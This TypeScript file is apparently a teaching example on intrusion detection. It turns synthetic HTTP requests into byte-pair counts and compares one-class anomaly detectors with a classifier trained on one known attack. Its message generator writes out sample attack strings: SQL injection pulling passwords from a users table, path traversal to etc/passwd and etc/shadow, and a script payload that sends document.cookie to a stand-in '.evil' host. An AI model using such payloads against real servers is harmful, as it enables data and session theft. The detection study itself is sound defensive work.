/**
 * Intrusion detection (Machine Learning 2, section 3.3 and figures 63 and 64): messages to a server become counts of their pairs of
 * letters. A classifier that learns one known attack misses attacks of other types; a description of the normal messages alone finds
 * them. Three families of descriptions are compared by one interface: by density, by reconstruction and by boundary.
 */
import { resolve } from "node:path";
import { fileURLToPath } from "node:url";
import {
  bagOfWords,
  hashText,
  isolationForest,
  kernelDensityDetector,
  kernelPcaDetector,
  oneClassSvm,
  supportVectorClassifier,
  svdd,
} from "lectern";
import { asMatrix, createTable, isSparse, type Matrix, type SparseMatrix, toDense } from "lectern/data";
import { rocAuc } from "lectern/metrics";
import { createRandom, type Random } from "lectern/numeric";
import { rocPlot } from "lectern/plots";

/** Messages of one kind. */
type Kind = "normal" | "injection" | "traversal" | "overflow" | "script";

/** A byte stream as text with one character for each byte. */
export function textOfBytes(bytes: Uint8Array): string {
  return String.fromCharCode(...bytes);
}

const pages = [
  "index",
  "news",
  "contact",
  "search",
  "profile",
  "basket",
  "images/logo",
  "articles/today",
  "login",
  "help",
];
const words = ["summer", "holiday", "laptop", "garden", "recipe", "train", "weather", "music", "green", "coffee"];

/** A message to a web server, as bytes. */
export function message(kind: Kind, random: Random): Uint8Array {
  const pick = (list: readonly string[]) => list[random.integer(list.length)];
  const page = pick(pages);
  const parts: Readonly<Record<Kind, () => string>> = {
    normal: () => `?q=${pick(words)}&page=${random.integer(9)}&lang=${pick(["en", "de", "fr"])}`,
    injection: () => `?q=' OR '1'='1' UNION SELECT ${pick(["name", "password"])} FROM users--`,
    traversal: () => `?file=../../../../../../${pick(["etc/passwd", "etc/shadow", "windows/win.ini"])}%00`,
    overflow: () => `?q=${String.fromCharCode(...Array.from({ length: 60 }, () => 128 + random.integer(128)))}`,
    script: () => `?q=<script>document.location="http://${pick(words)}.evil"+document.cookie</script>`,
  };
  const text = `GET /${page}.html${parts[kind]()} HTTP/1.1`;
  return Uint8Array.from(text, (character) => character.charCodeAt(0));
}

/** The dictionary of pairs of letters, and whether or how often each message has them. */
export function pairs(messages: readonly string[], binary: boolean) {
  const x = createTable({ message: { type: "text", values: messages } });
  const encoder = bagOfWords({ analyzer: "characters", ngrams: 2, shortestNgram: 2, lowercase: false, binary });
  const model = encoder.fit({ x });
  return { terms: model.outputFeatures.map((name) => name.slice(-2)), counts: dense(model.transform(x)) };
}

/** The frequencies of pairs of bytes, hashed, so that pairs which no normal message has count too. */
export function embed(streams: readonly Uint8Array[]): Matrix {
  const x = createTable({ message: { type: "text", values: streams.map(textOfBytes) } });
  const settings = { analyzer: "characters", ngrams: 2, shortestNgram: 2, lowercase: false } as const;
  return dense(
    hashText({ ...settings, buckets: 512, signed: false })
      .fit({ x })
      .transform(x),
  );
}

function dense(x: Matrix | SparseMatrix): Matrix {
  return asMatrix(isSparse(x) ? toDense(x) : x);
}

/** Normal messages to learn from, and messages of all kinds that come later. */
export function traffic(seed: number) {
  const random = createRandom(seed);
  const draw = (kind: Kind, count: number) => embed(Array.from({ length: count }, () => message(kind, random)));
  return {
    normal: draw("normal", 300),
    known: draw("injection", 40),
    later: {
      normal: draw("normal", 100),
      injection: draw("injection", 30),
      traversal: draw("traversal", 30),
      overflow: draw("overflow", 30),
      script: draw("script", 30),
    },
  };
}

const rbf = { kind: "rbf", gamma: 0.2 } as const;

/** A detector of each family, and one that isolates; all have `fit`, `score` and `isOutlier`. */
export const detectors = {
  "density: kernel density": kernelDensityDetector({ bandwidth: Math.sqrt(2.5), contamination: 0.02 }),
  "reconstruction: kernel PCA": kernelPcaDetector({ kernel: rbf, components: 20, contamination: 0.02 }),
  "boundary: one-class machine": oneClassSvm({ kernel: rbf, nu: 0.02 }),
  "boundary: data description": svdd({ kernel: rbf, nu: 0.02 }),
  "isolation forest": isolationForest({ contamination: 0.02 }),
};

/** The scores of later messages by each detector, which has seen normal messages only. */
export function scoresOf({ normal, later }: ReturnType<typeof traffic>) {
  return Object.entries(detectors).map(([name, recipe]) => {
    const model = recipe.fit({ x: normal });
    const each = Object.entries(later).map(([kind, x]) => ({
      kind,
      scores: model.score(x),
      flags: model.isOutlier(x),
    }));
    const scores = each.flatMap((part) => [...part.scores]);
    const truth = each.flatMap(({ kind, scores: own }) =>
      Array.from(own, () => (kind === "normal" ? "normal" : "attack")),
    );
    const found = Object.fromEntries(
      each.map(({ kind, flags }) => [kind, flags.reduce((a, b) => a + b, 0) / flags.length]),
    );
    return { name, truth, scores, auc: rocAuc(truth, scores, { positive: "attack" }), found };
  });
}

/** The share of messages of each kind that a classifier of normal messages and known attacks calls an attack. */
export function classifierFinds({
  normal,
  known,
  later,
}: ReturnType<typeof traffic>): Readonly<Record<string, number>> {
  const data = new Float64Array(normal.data.length + known.data.length);
  data.set(normal.data);
  data.set(known.data, normal.data.length);
  const x: Matrix = { rows: normal.rows + known.rows, columns: normal.columns, data };
  const y = Array.from({ length: x.rows }, (_, i) => (i < normal.rows ? "normal" : "attack"));
  const model = supportVectorClassifier({ kernel: { kind: "linear" } }).fit({ x, y });
  return Object.fromEntries(
    Object.entries(later).map(([kind, samples]) => {
      const { codes, classes } = model.predict(samples);
      return [kind, codes.filter((code) => classes[code] === "attack").length / samples.rows];
    }),
  );
}

/** Figure for the gallery index: the ROC curves of the detectors. */
export const cover = () =>
  rocPlot(
    scoresOf(traffic(1)).map(({ name, truth, scores }) => ({
      ...{ name, scores },
      positive: truth.map((kind) => kind === "attack"),
      kinds: ["normal", "attack"] as const,
    })),
    { maxDistributions: 0 },
  );

function print(): void {
  const data = traffic(1);
  console.log("classifier of known attacks: share called an attack", classifierFinds(data));
  for (const { name, auc, found } of scoresOf(data)) console.log(name, `AUC ${auc.toFixed(3)}`, found);
}

if (process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) print();
